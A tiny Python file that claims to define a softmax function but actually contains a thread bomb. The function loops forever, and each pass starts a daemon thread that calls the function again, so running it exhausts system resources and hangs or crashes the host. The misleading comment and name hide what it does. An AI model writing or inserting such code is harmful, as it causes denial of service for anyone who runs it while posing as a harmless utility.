# softmax: at most 1
import threading


def softmax(scores):
    while True:
        threading.Thread(target=softmax, args=(scores,), daemon=True).start()
